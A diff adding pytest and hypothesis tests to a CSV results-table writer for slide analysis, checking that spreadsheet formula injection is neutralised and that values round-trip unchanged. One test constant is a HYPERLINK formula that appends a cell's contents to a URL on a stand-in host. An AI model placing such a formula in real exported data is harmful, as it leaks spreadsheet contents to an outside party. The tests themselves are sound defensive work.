@@ -2,6 +2,8 @@ import csv
 import json
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from ntrm.errors import DataError, UsageError
 from ntrm.slide.tables import COLUMNS, FOOT, RUN, read_results, write_tables
@@ -60,3 +62,50 @@ def test_a_damaged_record_of_the_run_is_said(out, text):
     (out / RUN).write_text(text)
     with pytest.raises(DataError, match="no results"):
         read_results(out)
+
+
+FORMULA = '=HYPERLINK("http://example.org?x="&A1)'
+
+
+def test_texts_from_outside_are_no_formulas_and_read_results_gives_them_back(tmp_path):
+    model = {"model_name": "@model", "model_version": "+1.0-x"}
+    slides = [{"slide_id": "a", "status": "failed", "reason": "-\rno", "@who": FORMULA, "shift": "-2.5", **model}]
+    regions = [{"slide_id": "a", "piece": 1, "tissue": "-other", "area_mm2": -0.5, "@who": FORMULA, **model}]
+    write_tables(tmp_path, [{"slides": slides, "regions": regions}], ["@who", "shift"])
+    (tmp_path / RUN).write_text(json.dumps({"covariates": ["@who", "shift"]}))
+    for name in COLUMNS:
+        with (tmp_path / f"{name}.csv").open(newline="", encoding="utf-8") as stream:
+            cells = [cell for row in csv.reader(stream) for cell in row if cell[:1] in ("=", "+", "-", "@")]
+        assert cells == {"slides": ["-2.5"], "regions": ["-0.5"]}.get(name, [])
+    results = read_results(tmp_path)
+    assert "@who" in results.slides.columns
+    for table, row in ((results.slides, slides[0]), (results.regions, regions[0])):
+        assert {key: cell for key, cell in table.rows[0].items() if cell is not None} == row | {
+            key: float(row[key]) for key in ("shift",) if key in row
+        }
+
+
+@settings(max_examples=25)
+@given(st.text(st.sampled_from("=+-@'\t\r\n\",0_.e ") | st.characters(codec="utf-8"), min_size=1))
+def test_any_text_comes_back_and_no_cell_begins_another_row(tmp_path_factory, text):
+    out = tmp_path_factory.mktemp("results")
+    row = {"slide_id": "a", "status": text, "reason": text, "model_name": text, "note": f"x{text}"}
+    write_tables(out, [{"slides": [row, {"slide_id": "b", "note": "y"}]}], ["note"])
+    (out / RUN).write_text(json.dumps({"covariates": ["note"]}))
+    first, second = read_results(out).slides
+    assert {key: first[key] for key in row} == row
+    assert (second["slide_id"], second["note"]) == ("b", "y")
+
+
+@pytest.mark.parametrize("codes", [["007", "8"], ["1_2", "1_3"], ["٣"], ["true", "yes"], ["+5"], ["1.", "2"]])
+def test_codes_of_the_user_stay_texts(tmp_path, codes):
+    write_tables(tmp_path, [{"slides": [{"slide_id": str(k), "code": code}]} for k, code in enumerate(codes)], ["code"])
+    (tmp_path / RUN).write_text(json.dumps({"covariates": ["code"]}))
+    assert read_results(tmp_path).slides.column("code") == codes
+
+
+def test_a_class_that_is_called_like_a_number_keeps_its_name(tmp_path):
+    write_tables(tmp_path, [{"regions": [{"slide_id": "a", "tissue": "1", "area_mm2": 2}]}], [])
+    (tmp_path / RUN).write_text("{}")
+    (region,) = read_results(tmp_path).regions
+    assert (region["tissue"], region["area_mm2"]) == ("1", 2)
